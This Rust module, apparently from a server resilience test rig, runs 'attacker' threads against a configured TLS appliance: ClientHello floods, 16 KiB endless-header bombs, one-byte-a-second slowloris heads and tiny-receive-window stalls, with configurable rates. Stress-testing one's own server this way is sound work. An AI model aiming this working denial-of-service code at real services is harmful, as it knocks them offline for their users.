//! The attackers: two threads at the lowest priority.
//!
//! Only those who need keys make a whole handshake. Hellos are made once and sent again and again,
//! since a client that goes no further need not compute anything.

use std::collections::VecDeque;
use std::io::Write;
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::{Result, bail};
use rig::client::{Keys, shake, tls_config};
use rig::site::Site;
use rustix::fd::OwnedFd;
use rustix::net::{AddressFamily, SendFlags, SocketFlags, SocketType, sockopt};
use rustls::ClientConfig;
use rustls::client::UnbufferedClientConnection;
use rustls::pki_types::ServerName;
use rustls::unbuffered::{ConnectionState, EncodeError};
use serde::Serialize;

use super::threads::{Rate, STEP, Shared, Threads, connect};

#[derive(Clone, Copy, Debug, clap::Args)]
pub(crate) struct Strength {
    /// Connections a second that send a hello and nothing more.
    #[arg(long, default_value_t = 2000)]
    hellos: u32,
    /// Whole handshakes a second, each followed by a head of 16 KiB that does not end.
    #[arg(long, default_value_t = 100)]
    bombs: u32,
    /// Connections that send a head a byte a second.
    #[arg(long, default_value_t = 500)]
    slow_heads: u32,
    /// Connections that ask for the film and never read; some of them come anew each second.
    #[arg(long, default_value_t = 1400)]
    tiny_windows: u32,
}

/// What was done to the server, per second.
#[derive(Clone, Copy, Debug, Serialize)]
pub(crate) struct Offered {
    hellos_per_s: f64,
    bombs_per_s: f64,
    slow_bytes_per_s: f64,
    windows_per_s: f64,
}

type Attack = Threads<4>;

const HELLOS: usize = 0;
const BOMBS: usize = 1;
const SLOW_BYTES: usize = 2;
const WINDOWS: usize = 3;

pub(super) struct Aim {
    pub(super) address: SocketAddr,
    name: ServerName<'static>,
    config: Arc<ClientConfig>,
    request: String,
}

/// A connection after its handshake.
pub(super) struct Held {
    pub(super) socket: TcpStream,
    pub(super) keys: Keys,
    at: usize,
}

pub(super) const DATA: u8 = 23;
/// How long a connection that sent its hello is left open.
pub(super) const HELLO_HELD: Duration = Duration::from_secs(1);
/// Slow heads and closed windows come anew: so many a second.
const ANEW_PER_S: u32 = 50;
const PATIENCE: Duration = Duration::from_secs(5);
/// The smallest receive buffer that the kernel gives (tcp(7)).
const RECEIVE_BUFFER: usize = 2304;

impl Aim {
    pub(super) fn new(site: &Site) -> Result<Self> {
        let address = site.appliance.secure;
        Ok(Self {
            address,
            name: ServerName::try_from(address.ip().to_string())?,
            config: tls_config(site.trust(), &[])?,
            request: format!("GET {}0.mp4 HTTP/1.1\r\nHost: a\r\n\r\n", site.base),
        })
    }
}

pub(crate) fn start(site: &Site, strength: Strength) -> Result<Attack> {
    let (one, other) = (Aim::new(site)?, Aim::new(site)?);
    let mut attack = Threads::new();
    attack.start("hellos", move |shared| hellos(&one, strength, shared))?;
    attack.start("keys", move |shared| with_keys(&other, strength, shared))?;
    Ok(attack)
}

pub(crate) fn offered(attack: &Attack) -> Offered {
    let [hellos_per_s, bombs_per_s, slow_bytes_per_s, windows_per_s] = attack.per_s();
    Offered { hellos_per_s, bombs_per_s, slow_bytes_per_s, windows_per_s }
}

fn hellos(aim: &Aim, strength: Strength, shared: &Shared<4>) -> Result<()> {
    let hello = hello(aim)?;
    // The others need keys, and would not get them in time.
    while !shared.is_complete() && shared.goes_on() {
        std::thread::sleep(STEP);
    }
    let mut held: VecDeque<(Instant, OwnedFd)> = VecDeque::new();
    let mut rate = Rate::new(strength.hellos);
    while shared.goes_on() {
        let now = Instant::now();
        for _ in 0..rate.due() {
            if let Ok(socket) = connect(None, aim.address)
                && rustix::net::send(&socket, &hello, SendFlags::NOSIGNAL).is_ok()
            {
                held.push_back((now, socket));
                shared.count(HELLOS, 1);
            }
        }
        while held.front().is_some_and(|(since, _)| HELLO_HELD < now - *since) {
            held.pop_front();
        }
        std::thread::sleep(STEP);
    }
    Ok(())
}

pub(super) fn hello(aim: &Aim) -> Result<Vec<u8>> {
    let mut tls = UnbufferedClientConnection::new(Arc::clone(&aim.config), aim.name.clone())?;
    let status = tls.process_tls_records(&mut []);
    let ConnectionState::EncodeTlsData(mut data) = status.state? else {
        bail!("rustls does not begin with a hello");
    };
    let Err(EncodeError::InsufficientSize(size)) = data.encode(&mut []) else {
        bail!("a hello of no bytes");
    };
    let mut out = vec![0; size.required_size];
    let len = data.encode(&mut out)?;
    out.truncate(len);
    Ok(out)
}

/// Those that need keys: slow heads and closed windows, then bombs, and some of the former anew.
fn with_keys(aim: &Aim, strength: Strength, shared: &Shared<4>) -> Result<()> {
    let mut windows: VecDeque<Held> = VecDeque::new();
    let mut heads: VecDeque<Held> = VecDeque::new();
    for _ in 0..strength.tiny_windows {
        windows.extend(open_window(aim));
        if !shared.goes_on() {
            return Ok(());
        }
    }
    for _ in 0..strength.slow_heads {
        heads.extend(open(aim, None));
    }
    shared.complete();
    let mut bytes = Rate::new(strength.slow_heads);
    let mut bombs = Rate::new(strength.bombs);
    let mut anew = Rate::new(ANEW_PER_S);
    let mut spent: VecDeque<(Instant, Held)> = VecDeque::new();
    while shared.goes_on() {
        for _ in 0..bytes.due() {
            let Some(mut head) = heads.pop_front() else { break };
            if next_byte(&mut head, aim) {
                shared.count(SLOW_BYTES, 1);
                heads.push_back(head);
            }
        }
        for _ in 0..anew.due() {
            if strength.tiny_windows != 0 {
                windows.pop_front();
                windows.extend(open_window(aim));
                shared.count(WINDOWS, 1);
            }
            if heads.len() < usize::try_from(strength.slow_heads)? {
                heads.extend(open(aim, None));
            }
        }
        let now = Instant::now();
        for _ in 0..bombs.due() {
            if let Some(held) = open(aim, None).and_then(|held| bomb(held).ok()) {
                spent.push_back((now, held));
                shared.count(BOMBS, 1);
            }
        }
        while spent.front().is_some_and(|(since, _)| HELLO_HELD < now - *since) {
            spent.pop_front();
        }
        std::thread::sleep(STEP);
    }
    Ok(())
}

/// A connection after its handshake; none if the server lets nobody in now.
pub(super) fn open(aim: &Aim, receive_buffer: Option<usize>) -> Option<Held> {
    let flags = SocketFlags::CLOEXEC;
    let socket = rustix::net::socket_with(AddressFamily::INET, SocketType::STREAM, flags, None);
    let socket = socket.ok()?;
    sockopt::set_socket_linger(&socket, Some(Duration::ZERO)).ok()?;
    rustix::net::connect(&socket, &aim.address).ok()?;
    let mut socket = TcpStream::from(socket);
    socket.set_nodelay(true).ok()?;
    socket.set_read_timeout(Some(PATIENCE)).ok()?;
    let keys = shake(&aim.config, &aim.name, &mut socket).ok()?;
    if let Some(len) = receive_buffer {
        // Not before: a handshake through such a window takes long on both sides.
        sockopt::set_socket_recv_buffer_size(&socket, len).ok()?;
    }
    socket.set_nonblocking(true).ok()?;
    Some(Held { socket, keys, at: 0 })
}

fn open_window(aim: &Aim) -> Option<Held> {
    let mut held = open(aim, Some(RECEIVE_BUFFER))?;
    held.say(aim.request.as_bytes()).ok()?;
    Some(held)
}

/// Sends the next byte of a head that never ends; false if the server has closed.
fn next_byte(held: &mut Held, aim: &Aim) -> bool {
    let request = aim.request.as_bytes();
    // The end of the head is never reached.
    let byte = request.get(held.at).filter(|_| held.at + 4 < request.len()).unwrap_or(&b'a');
    held.at += 1;
    held.say(&[*byte]).is_ok()
}

fn bomb(mut held: Held) -> Result<Held> {
    let line = b"X-Nothing: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n";
    let mut head = b"GET / HTTP/1.1\r\nHost: a\r\n".to_vec();
    while head.len() + line.len() < 1 << 14 {
        head.extend_from_slice(line);
    }
    held.say(&head)?;
    Ok(held)
}

impl Held {
    fn say(&mut self, plain: &[u8]) -> Result<()> {
        let mut record = Vec::new();
        self.keys.send.seal(DATA, plain, &mut record);
        Ok(self.socket.write_all(&record)?)
    }
}
